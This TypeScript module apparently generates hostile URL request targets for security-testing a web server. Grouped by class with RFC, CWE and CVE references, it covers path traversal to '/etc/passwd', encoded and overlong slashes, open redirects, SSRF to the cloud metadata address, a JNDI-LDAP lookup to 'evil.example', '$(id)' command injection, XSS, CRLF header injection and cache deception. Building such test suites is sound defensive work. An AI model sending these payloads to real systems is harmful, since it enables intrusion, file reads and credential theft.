/** A request target that was made to reach what it must not, in latin1, and the class that it is of. */
export interface HostilePath {
  readonly class: string;
  readonly target: string;
}

/**
 * Returns hostile ways to request an address, each class with its source. Raw bytes are sent unchanged. The result is the same every time.
 */
export function hostilePaths(address: string): HostilePath[] {
  const mark = address.indexOf('?');
  const path = mark === -1 ? address : address.slice(0, mark);
  const query = mark === -1 ? '' : address.slice(mark);
  const found = Object.entries(CLASSES).flatMap(([name, targetsOf]) =>
    targetsOf(partsOf(path), query).map((target): HostilePath => ({ class: name, target })),
  );
  return [...new Map(found.filter(({ target }) => target !== address).map((one) => [one.target, one])).values()];
}

interface Parts {
  readonly path: string;
  /** Everything before the last slash. */
  readonly folder: string;
  /** What follows the last slash. */
  readonly name: string;
}

function partsOf(path: string): Parts {
  const at = path.lastIndexOf('/');
  return { path, folder: path.slice(0, at), name: path.slice(at + 1) };
}

type TargetsOf = (parts: Parts, query: string) => string[];

const utf8 = (text: string): string => Buffer.from(text, 'utf8').toString('latin1');
const behind = (path: string, endings: readonly string[], query = ''): string[] =>
  endings.map((ending) => `${path}${ending}${query}`);

/** Addresses that climb, as they are written plainly; `..` and `.` in them are then written in other ways. */
const climbs = ({ path, folder, name }: Parts, query: string): string[] =>
  [
    `/.${path}`,
    `/x/..${path}`,
    `/x/y/../..${path}`,
    `/..${path}`,
    `/../..${path}`,
    `/th/../..${path}`,
    `/files/..${path}`,
    `/_astro/../.${path}`,
    `/api/proxy/..${path}`,
    `/api/proxy/../..${path}`,
    `/prod/api/../..${path}`,
    `${folder}/./${name}`,
    `${folder}/x/../${name}`,
    `${path}/.`,
    `${path}/..`,
    `${path}/../${name}`,
    `${path}/../../../../../../../etc/passwd`,
    `${path}/../../canary.txt`,
  ].map((target) => `${target}${query}`);

const inDots = (targets: readonly string[], two: string, one: string): string[] =>
  targets.map((target) => target.replaceAll('/..', `/${two}`).replaceAll(/\/\.(?=\/|$)/g, `/${one}`));

const CLASSES: Readonly<Record<string, TargetsOf>> = {
  // RFC 3986, 5.2.4 and 6.2.2.3; OWASP WSTG-ATHZ-01.
  'dot segments': (parts, query) => climbs(parts, query),
  'dot segments, encoded': (parts, query) => [
    ...inDots(climbs(parts, query), '%2e%2e', '%2e'),
    ...inDots(climbs(parts, query), '.%2E', '%2E'),
  ],
  // CAPEC-120.
  'dot segments, encoded twice': (parts, query) => inDots(climbs(parts, query).slice(0, 8), '%252e%252e', '%252e'),
  'dot segments, mixed': (parts, query) => inDots(climbs(parts, query).slice(0, 8), '%2e%252e', '.%252e'),
  // CVE-2026-29087 and GHSA-frvp of @hono/node-server; CAPEC-64.
  'slashes, encoded': ({ path, folder, name }, query) => [
    ...['%2F', '%2f', '%5C', '%5c', '%252f', '%255c', '\\'].flatMap((slash) => [
      `${folder}${slash}${name}${query}`,
      `${path}${slash}${query}`,
      `/x${slash}..${path}`,
      `/..${slash}..${slash}canary.txt`,
      `/files${slash}..${path}`,
    ]),
    `/${path.slice(1).replaceAll('/', '%2F')}${query}`,
    `%2f${path.slice(1)}${query}`,
  ],
  // RFC 3629, 10; CVE-2000-0884.
  'overlong UTF-8': ({ path, folder, name }) =>
    ['%c0%af', '%c0%2f', '%e0%80%af', '%f0%80%80%af', '%c1%9c', '\u00c0\u00af'].flatMap((slash) => [
      `${folder}${slash}${name}`,
      `${path}${slash}..${slash}canary.txt`,
      `/%c0%ae%c0%ae${slash}canary.txt`,
    ]),
  // reference 5, group 8; RFC 3629, 3.
  'invalid UTF-8': ({ path }, query) =>
    [
      '%ff',
      '%80',
      '%c3',
      '%e0%a4%a',
      '%ed%a0%80',
      '%f5%80%80%80',
      '\u00ff',
      '\u00c3',
      '%zz',
      '%',
      '%4',
      '%u002e%u002e',
      '%-1',
    ].flatMap((bytes) => [`${path}${bytes}${query}`, `${path}/${bytes}${query}`]),
  // CAPEC-52; CWE-158.
  'control bytes': ({ path, folder, name }) =>
    ['%00', '%01', '%09', '%0b', '%1f', '%7f', '\u0000', '\u0001', '\t', '\u000c', '\u007f'].flatMap((byte) => [
      `${path}${byte}`,
      `${path}${byte}.css`,
      `${folder}/${byte}${name}`,
    ]),
  // CVE-2025-54793 of Astro, GHSA-9phm-9p8f-hw5m of Nitro.
  'another host': ({ path }) => [
    ...['//', '///', '/\\', '/%2f%2f', '/%5c', '/%09/', '/.//', '/..//', '/th//', '/TH//', '//th//', '/x/..//'].flatMap(
      (start) => [`${start}evil.example`, `${start}evil.example${path}`, `${start}evil.example/..${path}`],
    ),
    `//evil.example@www.kaveno.example${path}`,
    `/https://evil.example${path}`,
    `/https:evil.example`,
    `${path}//evil.example`,
    `${path}//evil.example/`,
    `${path}/%2f%2fevil.example/`,
    `/;@evil.example${path}`,
    '/javascript:alert(1)/',
    '/javascript:alert(1)//evil.example/',
  ],
  // RFC 9112, 3.2.2; CVE-2026-54299 of Astro.
  'absolute form': ({ path }, query) => [
    ...[
      'http://www.kaveno.example',
      'https://www.kaveno.example',
      'HTTP://WWW.KAVENO.EXAMPLE',
      'http://evil.example',
      'https://evil.example:443',
      'http://user@www.kaveno.example',
      'http://user:secret@evil.example',
      'http://evil.example:80@www.kaveno.example',
      'http://www.kaveno.example:99999',
      'http://[::1]',
      'ftp://www.kaveno.example',
      'http:',
      'http:/',
      'http://',
    ].map((start) => `${start}${path}${query}`),
    'http://evil.example',
    'http://www.kaveno.example?a',
    'file:///etc/passwd',
  ],
  // RFC 9112, 3.2.3 and 3.2.4.
  'no path': ({ path }) => [
    '*',
    '**',
    '/*',
    'evil.example:443',
    'www.kaveno.example:443',
    path.slice(1),
    `.${path}`,
    `?${path}`,
    `#${path}`,
    `@evil.example${path}`,
    `;${path}`,
    '?',
    '#',
    '\\',
  ],
  // CVE-2025-41242 and others of Spring and Tomcat: `..;` behind a proxy.
  'parameters of segments': ({ path, folder, name }, query) => [
    ...behind(
      path,
      [';', ';a=b', ';.css', ';x=y/..', '%3b', '%3B.css', ';%2f..', ';jsessionid=1', '/;', '/..;/'],
      query,
    ),
    `${folder};x/${name}${query}`,
    `/;/..${path}`,
    `/..;${path}`,
    `/x/..;${path}`,
    `/%2e%2e;${path}`,
    `/;${path}`,
  ],
  // Unicode TR36, 3.1: look-alikes that a normal form turns into what they look like.
  'letters that look alike': ({ path, folder, name }) => [
    ...['\uff0f', '\u2215', '\u2044', '\u29f8'].flatMap((slash) => [
      utf8(`${folder}${slash}${name}`),
      encodeURI(`${folder}${slash}${name}`),
      encodeURI(`/x${slash}..${path}`),
    ]),
    ...['\uff0e\uff0e', '\u2024\u2024', '\u3002\u3002', '\u2025'].flatMap((dots) => [
      utf8(`/x/${dots}${path}`),
      encodeURI(`/x/${dots}${path}`),
      encodeURI(`${path}/${dots}/canary.txt`),
    ]),
    ...['\u202e', '\u200b', '\ufeff', '\u00ad', '\u00a0', '\ufe0f'].map((hidden) => encodeURI(`${path}${hidden}`)),
    encodeURI(path.replace('s', '\u017f')),
    encodeURI(path.replace(/[a-z]/, (letter) => String.fromCodePoint(letter.charCodeAt(0) + 0xfee0))),
    utf8(path.replace('e', 'e\u0301')),
  ],
  // RFC 3986, 6.2.2.1; OWASP WSTG-AUTHZ-02.
  'letter case and encoded letters': ({ path, folder, name }, query) => [
    `${path.toUpperCase()}${query}`,
    `${path.replaceAll(/(?<=\/)[a-z]/g, (letter) => letter.toUpperCase())}${query}`,
    `${folder}/${name.toUpperCase()}${query}`,
    `${folder.toUpperCase()}/${name}${query}`,
    ...[...path.matchAll(/[a-z]/g)]
      .slice(0, 8)
      .map(
        ({ index }) => `${path.slice(0, index)}%${path.charCodeAt(index).toString(16)}${path.slice(index + 1)}${query}`,
      ),
    `${path.replaceAll(/[a-z]/g, (letter) => `%${letter.charCodeAt(0).toString(16).toUpperCase()}`)}${query}`,
    `${path.replaceAll(/[a-z]/g, (letter) => `%25${letter.charCodeAt(0).toString(16)}`)}${query}`,
  ],
  // CWE-41, CWE-42, CWE-46: names that a file system takes for the same.
  'what trails': ({ path }, query) =>
    behind(
      path,
      [
        '.',
        '..',
        '...',
        '%20',
        ' ',
        '+',
        '%2e',
        '/',
        '//',
        '/./',
        '%a0',
        '~',
        '.bak',
        '$',
        '::$DATA',
        '%3a%3a$DATA',
        '*',
        '|',
      ],
      query,
    ),
  // RFC 3986, 3.4 and 3.5.
  'question marks and hashes': ({ path }) =>
    behind(path, [
      '%3f',
      '%3fx.css',
      '%3F/../canary.txt',
      '%23',
      '%23x.css',
      '#',
      '#x',
      '?',
      '??',
      '?#',
      '?x#y',
      '?/../../canary.txt',
      '?x=/../canary.txt',
      '&x=1',
      '=1',
    ]),
  // CWE-400; reference 5, group 10.
  length: ({ path }, query) => [
    `${path}${'/a'.repeat(2000)}`,
    `${path}${'a'.repeat(6000)}`,
    `${'/'.repeat(3000)}${path.slice(1)}`,
    `${path}${'/..'.repeat(1000)}`,
    `/x${'/x/..'.repeat(800)}/..${path}`,
    `${path}${'%2e'.repeat(1500)}`,
    `${path}${';a'.repeat(1500)}`,
    `${path}?${'a=1&'.repeat(1500)}`,
    `${path}?${'a'.repeat(10_000)}`,
    `${path}${query}${'a'.repeat(40_000)}`,
    `${path}?${'[]'.repeat(20_000)}`,
  ],
  // CWE-1321.
  'names of prototypes': ({ path }) => [
    ...['__proto__', 'constructor', 'prototype', 'toString', 'hasOwnProperty', 'valueOf', '__defineGetter__'].flatMap(
      (name) => [
        `/${name}`,
        `/${name}${path}`,
        `${path}/${name}`,
        `/products/${name}`,
        `/support/${name}`,
        `${path}?${name}=1`,
        `/download?urlFlag=${name}`,
      ],
    ),
    `${path}?__proto__[x]=1`,
    `${path}?constructor[prototype][x]=1`,
  ],
  // CWE-1336, CWE-79.
  templates: ({ path }) =>
    behind(`${path}/`, [
      '{{7*7}}',
      '${7*7}',
      '%{7*7}',
      '<%=7*7%>',
      '#{7*7}',
      '$1',
      '$&',
      '$request_uri',
      '${jndi:ldap://evil.example/a}',
      '$(id)',
      '`id`',
      '<script>alert(1)</script>',
      '%3Cscript%3Ealert(1)%3C%2Fscript%3E',
      '"onload="alert(1)',
      "'%20or%20'1'='1",
    ]),
  // CWE-67.
  'names of devices': ({ path, folder }) =>
    ['con', 'NUL', 'aux.css', 'COM1', 'lpt1.txt', 'nul%00.css', 'PROGRA~1', 'c:', '..%5cboot.ini'].flatMap((name) => [
      `${folder}/${name}`,
      `${path}/${name}`,
    ]),
  // ASVS 14.2.5; "Web Cache Deception Escalates", USENIX Security 2022.
  'cache deception': ({ path }) => [
    ...['css', 'js', 'json', 'png', 'svg', 'woff2', 'avif', 'html', 'txt', 'pdf'].flatMap((ending) => [
      `${path}.${ending}`,
      `${path}/x.${ending}`,
    ]),
    ...['%2f', '%5c', '%3b', ';', '%00', '%0a', '%23', '%3f', '%20', '%09', '/..%2f', '%2f..%2f', '~', '!', ','].map(
      (mark) => `${path}${mark}x.css`,
    ),
    `${path}/favicon.svg`,
    `${path}/robots.txt`,
    `${path}/index.html`,
    `${path}/x.css?y=1`,
    `/favicon.svg/..${path}`,
    `/favicon.svg/..%2f..${path}`,
    `/robots.txt%2f..${path}`,
    `/x.css/..${path}`,
    `/x.css/%2e%2e${path}`,
    `/_astro/..%2f${path.slice(1)}`,
    `/_astro${path}`,
    `/files${path}`,
    `/pagefind/..${path}`,
    `/.well-known${path}`,
    `/.well-known/..${path}`,
  ],
  // GHSA-92pp of @hono/node-server.
  'more slashes': ({ path, folder, name }, query) => [
    `/${path}${query}`,
    `//${path}${query}`,
    `${path.replaceAll('/', '//')}${query}`,
    `${folder}//${name}${query}`,
    `${path}//${query}`,
    `/x//..${path}${query}`,
    `/th/${path}${query}`,
    `/.${'/'.repeat(5)}${path}`,
  ],
  // CWE-441, CWE-918: what a proxy could be led to.
  'a proxy of others': ({ path }) => [
    ...['/api/proxy/', '/prod/api/', '/cms/api/', '/cms/'].flatMap((front) => [
      `${front}http://evil.example/`,
      `${front}/evil.example/`,
      `${front}@evil.example/`,
      `${front}169.254.169.254/latest/meta-data`,
      `${front}https:%2f%2fevil.example`,
      `${front}..${path}`,
      `${front}../..${path}`,
      `${front}%2e%2e/%2e%2e${path}`,
      `${front}..%2f..${path}`,
      `${front.slice(0, -1)}${path}`,
      `${front}?url=http://evil.example/`,
    ]),
    `/api//proxy${path}`,
    `//api/proxy${path}`,
    `/API/PROXY${path}`,
    `/api/proxy/api/proxy${path}`,
    `/_page/home${path}`,
    `/_page/error${path}`,
    '/_image?href=http://evil.example/x.png',
    '/_server-islands/x',
    '/_actions/x',
  ],
  // CWE-601, CWE-235.
  queries: ({ path }, query) =>
    [
      'return=//evil.example',
      'return=https://evil.example/',
      'return=/\\evil.example',
      'path=//evil.example',
      'path=%3Cscript%3Ealert(1)%3C/script%3E',
      'url=https://evil.example/a.pdf',
      'url=/files/a.pdf&url=//evil.example',
      'a=1&a=2&a[]=3',
      'q=%00',
      'q=%ff',
      'q=%',
      '&&&',
      '=',
      'urlFlag=../canary.txt',
      'urlFlag=%2e%2e',
      'urlFlag=B101&urlFlag=__proto__',
      'page=-1&sort=constructor',
      utf8('q=é'),
      'q=\u00ff',
      '_method=POST',
      'X-Original-URL=/users/center',
    ].map((more) => `${path}${query === '' ? '?' : `${query}&`}${more}`),
  // CWE-69: streams and attributes of NTFS.
  'streams of files': ({ path, folder, name }, query) => [
    ...behind(
      path,
      [
        '::$INDEX_ALLOCATION',
        ':$I30:$INDEX_ALLOCATION',
        ':x.css',
        '%3Ax',
        '%3a%24DATA',
        ':%24DATA',
        ':Zone.Identifier',
        '::',
      ],
      query,
    ),
    `${folder}:$I30:$INDEX_ALLOCATION/${name}${query}`,
    `${folder}::$DATA/${name}${query}`,
    `/x::$INDEX_ALLOCATION/..${path}${query}`,
    `${folder}/${name.slice(0, 6)}~1${query}`,
  ],
  // CAPEC-120 and CAPEC-72: percent signs within percent signs, and escapes of other languages.
  'percent signs of other kinds': ({ path, folder, name }) => [
    ...[
      '%%32%65%%32%65',
      '%25%32%65%25%32%65',
      '%2%65%2%65',
      '%uff0e%uff0e',
      '%25252e%25252e',
      '%2525252e%2525252e',
    ].flatMap((dots) => [`/x/${dots}${path}`, `${path}/${dots}/canary.txt`]),
    ...['%%32%66', '%25%32%66', '%2%66', '%u2215', '%u002f', '%25252f', '%2525252F', '%x2f', '%0%2f', '%\u00ff2f'].map(
      (slash) => `${folder}${slash}${name}`,
    ),
    ...['\\x2f', '\\u002f', '&#47;', '&#x2f;', '%26%2347;', '&sol;', '=2f', '+', '%2b', '\\057'].map(
      (slash) => `${folder}${slash}${name}`,
    ),
  ],
  // RFC 3629, 3: longer forms than are allowed, surrogates, and numbers beyond the last character.
  'bytes beyond UTF-8': ({ path }) =>
    [
      '%e0%80%ae%e0%80%ae',
      '%f0%80%80%ae%f0%80%80%ae',
      '%f8%80%80%80%ae',
      '%fc%80%80%80%80%ae',
      '%c0%5c',
      '%c0%80',
      '%ed%bf%bf',
      '%ed%a0%bd%ed%b8%80',
      '%f4%90%80%80',
      '%fe%ff',
      '%ff%fe/%00',
      '%ef%bb%bf',
      '%ef%bf%bf',
      '%ef%b7%90',
    ].flatMap((bytes) => [`${path}${bytes}`, `/x/${bytes}${path}`]),
  // Unicode UAX 15 and TR36: normal forms, letters of other writings, and characters without a width.
  'characters that fold or vanish': ({ path, name }) => [
    ...[
      '\u0430',
      '\u0435',
      '\u03bf',
      '\u0131',
      '\u212a',
      '\u00df',
      '\ufb01',
      '\u{1d41a}',
      '\u24d0',
      '\u1d00',
      '\u{e0061}',
    ].map((letter) => encodeURI(path.replace(/[a-z](?=[^/]*$)/, letter))),
    ...[
      '\u0301',
      '\u0338',
      '\u20e5',
      '\u200c',
      '\u200d',
      '\u2060',
      '\u200e',
      '\u200f',
      '\u2066',
      '\u115f',
      '\u3164',
      '\u180e',
    ].map((mark) => encodeURI(`${path.slice(0, -1)}${mark}${path.slice(-1)}`)),
    ...['\u0085', '\u2000', '\u2009', '\u2028', '\u2029', '\u205f', '\u3000', '\u{e0020}', '\ue000', '\ufffd'].flatMap(
      (space) => [encodeURI(`${path}${space}`), encodeURI(`${path}/${space}${name}`)],
    ),
  ],
  // CWE-24 to CWE-34: dots with something between, behind or before them.
  'dots with something between': ({ path }, query) =>
    [
      '.%00.',
      '..%00',
      '..%09',
      '..%0a',
      '.%2500.',
      '....',
      '.../...',
      '..;x=y',
      ';..;',
      '.;',
      '%2e;',
      '.\\.',
      '..\\',
      '%20..',
      '..%20',
      '..%c2%85',
      '%ff..',
    ]
      .concat([
        '..%3f',
        '..%23',
        '*..',
        '~',
        '~root',
        '-',
        '@..',
        '..:',
        '..::$DATA',
        '.%e2%80%8b.',
        '%e2%80%ae..',
        '..%01',
        '%7f..',
        '(..)',
        "'..'",
      ])
      .flatMap((dots) => [`/x/${dots}${path}${query}`, `${path}/${dots}/canary.txt`]),
  // CWE-93, CWE-113.
  'line breaks': ({ path }) =>
    behind(path, [
      '%0d%0aX-Inj:%201',
      '%0aX-Inj:%201',
      '%0d',
      '?%0d%0aX-Inj:%201',
      '%E5%98%8A%E5%98%8DX-Inj:%201',
      '%u000d%u000aX-Inj:1',
      '%250d%250aX-Inj:1',
      '%C4%8D%C4%8AX-Inj:1',
      '\r\nX-Inj: 1',
      '\nX-Inj: 1',
      '\rX-Inj: 1',
      ' HTTP/1.1\r\nX-Inj: 1\r\nX-Rest:',
      ' HTTP/1.1\r\nHost: evil.example\r\nX-Rest:',
    ]),
};
